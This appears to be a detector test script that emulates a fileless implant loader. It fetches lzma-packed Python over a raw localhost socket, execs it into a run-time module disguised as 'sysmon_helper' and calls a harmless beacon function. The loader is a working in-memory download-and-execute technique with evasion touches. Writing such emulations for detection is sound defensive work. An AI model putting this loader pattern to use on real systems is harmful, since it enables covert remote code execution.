# technique: T1059.006 T1105 T1027 T1620
"""Fileless module loaded from a raw-socket download, lzma-packed (T1105, T1059.006, T1027, T1620).

Implant loaders (e.g. Pupy-style in-memory importers) pull a module over a
hand-written HTTP/1.0 request on a plain socket, lzma-decompress it, create a
module with importlib.util.module_from_spec(spec_from_loader(..., None)),
register it in sys.modules and exec the source into the module dict through
a compiled code object. No urllib, no file on disk.

A good detector raises a high alert: network bytes become code executed in a
module created at run time.
"""
import importlib.util, lzma, socket, sys, threading

SRC = b"import platform\ndef beacon():\n    return platform.node()\n"
PAYLOAD = lzma.compress(SRC)
lsn = socket.socket(); lsn.bind(("127.0.0.1", 0)); lsn.listen(1)
def serve():
    try:
        c, _ = lsn.accept(); c.recv(1024)
        c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(PAYLOAD) + PAYLOAD); c.close()
    except Exception: pass
threading.Thread(target=serve, daemon=True).start()
try:
    s = socket.create_connection(lsn.getsockname(), timeout=3)
    s.sendall(b"GET /m.xz HTTP/1.0\r\nHost: cdn\r\n\r\n")
    data = b""
    while True:
        d = s.recv(65536)
        if not d: break
        data += d
    body = data.split(b"\r\n\r\n", 1)[1]
    spec = importlib.util.spec_from_loader("sysmon_helper", loader=None)
    mod = importlib.util.module_from_spec(spec)
    sys.modules["sysmon_helper"] = mod
    exec(compile(lzma.decompress(body), "<frozen sysmon_helper>", "exec"), mod.__dict__)
    mod.beacon()
except Exception:
    pass
